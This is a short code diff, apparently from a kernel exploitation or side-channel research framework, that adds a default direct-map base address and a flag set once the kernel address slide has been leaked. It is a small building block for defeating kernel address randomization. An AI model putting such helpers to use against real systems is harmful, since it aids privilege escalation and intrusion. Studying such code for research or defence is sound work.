@@ -34,6 +34,16 @@ NOINLINE uint64_t attack_leaky_read(const struct attack_leaky *object, size_t in
 	return samples[index];
 }
 
+/* Without randomization. */
+#define DIRECT_MAP_USUAL UINT64_C(0xffff800000000000)
+
+static bool has_leaked;
+
+uintptr_t attack_direct_map(phys_t phys)
+{
+	return (has_leaked ? DIRECT_MAP_BASE : DIRECT_MAP_USUAL) + phys;
+}
+
 static void notify(void)
 {
 }
@@ -43,6 +53,7 @@ uintptr_t attack_leaked_slide(void)
 	static struct attack_leaky clock;
 
 	clock.pointer = (const void *)notify;
+	has_leaked = true;
 	return attack_leaky_read(&clock, ATTACK_LEAK) - attack_linked_code(notify);
 }
 
